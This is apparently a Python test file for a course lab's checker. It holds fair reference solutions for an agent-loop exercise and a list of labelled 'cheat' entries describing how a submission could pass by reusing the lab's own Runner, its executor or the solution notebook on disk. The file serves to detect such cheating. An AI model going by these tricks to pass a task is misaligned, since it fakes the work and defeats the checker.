    async def turn(self):
        parts, text, finished = {}, "", False
        async for event in self.model(self.history):
            if isinstance(event, ToolCallDelta):
                part = parts.setdefault(event.index, {"id": "", "name": "", "args": ""})
                part["id"] = part["id"] or (event.id or "")
                part["name"] += event.name or ""
                part["args"] += event.arguments_delta or ""
            elif isinstance(event, TextDelta):
                text += event.text
            elif isinstance(event, Finish):
                finished = True
        if not finished:
            return None
        return AssistantMessage(text, tuple(ToolCall(p["id"], p["name"], p["args"])
                                            for _, p in sorted(parts.items())))

    def safe(self, request):
        tool = self.tools.get(request.name)
        return bool(tool and tool.concurrency_safe and not tool.requires_approval)

    async def answer(self, requests):
        outcomes, i = {}, 0
        while i < len(requests):
            j = i + 1
            if self.safe(requests[i]):
                while j < len(requests) and self.safe(requests[j]):
                    j += 1
            batch = requests[i:j]
            for outcome in await asyncio.gather(*(invoke(self.tools.get(r.name), r)
                                                  for r in batch)):
                outcomes[outcome.call_id] = outcome
            i = j
        self.codes |= {o.code for o in outcomes.values() if o.code}
        return [outcomes[r.call_id].to_message() for r in requests]

    async def run(self):
        while True:
            try:
                message = await self.turn()
            except StreamCancelled:
                return self.history, "cancelled"
            except Exception:
                return self.history, "failed"
            if message is None:
                return self.history, "failed"
            self.history.append(message)
            if not message.tool_calls:
                return self.history, "partial" if self.codes else "completed"
            requests = [ToolRequest.from_call(c) for c in message.tool_calls]
            self.history += await self.answer(requests)
            if self.codes & self.FATAL:
                return self.history, "failed"


async def agent_loop(model, tools, question):
    return await TurnLoop(model, tools, question).run()
'''
# Helpers in cells of their own before the exercise: a reader, a batcher, a status rule.
FAIR_HELPER_CELLS = (
    '''async def read_whole_turn(model, history):
    """The turn's AssistantMessage, None without a Finish; a cancel or a broken stream raises."""
    calls, texts, finish = {}, [], None
    async for event in model(history):
        match event:
            case ToolCallDelta(index=i):
                ids, names, args = calls.setdefault(i, ([], [], []))
                ids.append(event.id or "")
                names.append(event.name or "")
                args.append(event.arguments_delta or "")
            case TextDelta(text=t):
                texts.append(t)
            case Finish():
                finish = event
    if finish is None:
        return None
    return AssistantMessage("".join(texts), tuple(
        ToolCall(next((x for x in ids if x), ""), "".join(names), "".join(args))
        for _, (ids, names, args) in sorted(calls.items())))
''',
    '''def batches_of(requests, tools):
    """Runs of read-only calls together; any other call alone."""
    out = []
    for r in requests:
        t = tools.get(r.name)
        shared = t is not None and t.concurrency_safe and not t.requires_approval
        if shared and out and out[-1][0]:
            out[-1][1].append(r)
        else:
            out.append((shared, [r]))
    return [batch for _, batch in out]


FATAL_CODES_MINE = ("unknown_tool", "tool_internal_error", "invalid_tool_output")


def status_of(codes):
    if any(c in FATAL_CODES_MINE for c in codes):
        return "failed"
    return "partial" if codes else "completed"
''')
FAIR_HELPER_LOOP = '''async def agent_loop(model, tools, question):
    history, codes = [UserMessage(question)], []
    while True:
        try:
            message = await read_whole_turn(model, history)
        except StreamCancelled:
            return history, "cancelled"
        except Exception:
            return history, "failed"
        if message is None:
            return history, "failed"
        history.append(message)
        if not message.tool_calls:
            return history, status_of(codes)
        requests = [ToolRequest.from_call(c) for c in message.tool_calls]
        by_id = {}
        for batch in batches_of(requests, tools):
            results = await asyncio.gather(*[invoke(tools.get(r.name), r) for r in batch])
            by_id.update((o.call_id, o) for o in results)
        history.extend(by_id[r.call_id].to_message() for r in requests)
        codes.extend(o.code for o in by_id.values() if o.code)
        if status_of(codes) == "failed":
            return history, "failed"
'''

CAPSTONE_CHEATS: tuple[Entry, ...] = (
    Entry("capstone-runner-direct", "chapter 9: its own stream reader; each turn's calls run by "
          "the lab's Runner (keel_lab.Runner) on the turn scripted with ScriptedAdapter",
          {"agent_loop": RUNNER_DIRECT}, learner=CAPSTONE),
    Entry("capstone-executor-built-name", "chapter 9: each turn's calls run by the lab's "
          "Executor, found by importlib and getattr with string-built names",
          {"agent_loop": EXECUTOR_BUILT}, learner=CAPSTONE),
    Entry("capstone-runner-subclass", "chapter 9: the whole run is a Runner subclass whose _ask "
          "awaits the learner's model; the lab's loop, executor and status rule do the rest",
          {"agent_loop": RUNNER_SUBCLASS}, learner=CAPSTONE),
    Entry("capstone-runner-source-exec", "chapter 9: the runner module's inspect.getsource "
          "exec'd under another module name; its Runner runs each turn",
          {"agent_loop": RUNNER_EXEC}, learner=CAPSTONE),
    Entry("capstone-runner-source-edited", "chapter 9: the runner's and executor's source with "
          "a line added to every function (ast), exec'd: new bytecode, same behaviour",
          {"agent_loop": RUNNER_EDITED}, learner=CAPSTONE),
    Entry("capstone-early-runner-thread", "chapter 9: a class body in an earlier cell starts a "
          "thread that runs the lab's Runner for each question (queue in, future out), the "
          "model read on the caller's loop", {"agent_loop": EARLY_RUNNER_LOOP},
          extra=(EARLY_RUNNER_THREAD,), learner=CAPSTONE),
    Entry("capstone-forked-runner", "chapter 9: os.fork; the child runs the lab's Runner on "
          "the whole question and pickles (messages, status) back through a pipe",
          {"agent_loop": FORKED}, learner=CAPSTONE),
    Entry("capstone-sys-modules-executor", "chapter 9: the lab's private executor module "
          "found in sys.modules by a built name; its Executor runs each turn",
          {"agent_loop": SYS_MODULES_EXECUTOR}, learner=CAPSTONE),
    Entry("capstone-code-clone", "chapter 9: the Executor's methods rebuilt with "
          "types.FunctionType around the lab's code objects, in a class of its own",
          {"agent_loop": CODE_CLONE}, learner=CAPSTONE),
    Entry("capstone-solution-disk", "chapter 9: finds notebooks/solutions/09_capstone.ipynb "
          "beside the installed lab, its cwd or any process's cwd, runs its exercise cell",
          {"agent_loop": SOLUTION_DISK}, learner=CAPSTONE),
    Entry("capstone-runner-replay", "chapter 9: the lab's Runner run at cell load on the "
          "notebook's questions (offline model); the loop replays that run, ids renamed to "
          "the model's; the calls invoked for show", {"agent_loop": RUNNER_REPLAY},
          learner=CAPSTONE),
)
CAPSTONE_FAIR: tuple[Entry, ...] = (
    Entry("fair-capstone-solution", "chapter 9: the solution notebook's loop as written there",
          {"agent_loop": FAIR_LOOP}, fair=True, learner=CAPSTONE),
    Entry("fair-capstone-class", "chapter 9: a class holding the run (turn, answer, run), "
          "batches by index arithmetic", {"agent_loop": FAIR_CLASS_LOOP}, fair=True,
          learner=CAPSTONE),
    Entry("fair-capstone-helper-cells", "chapter 9: the reader (match on event patterns), "
          "batcher and status rule in cells of their own before the exercise",
          {"agent_loop": FAIR_HELPER_LOOP}, extra=FAIR_HELPER_CELLS, fair=True,
          learner=CAPSTONE),
)
CHEATS += CAPSTONE_CHEATS
FAIR += CAPSTONE_FAIR
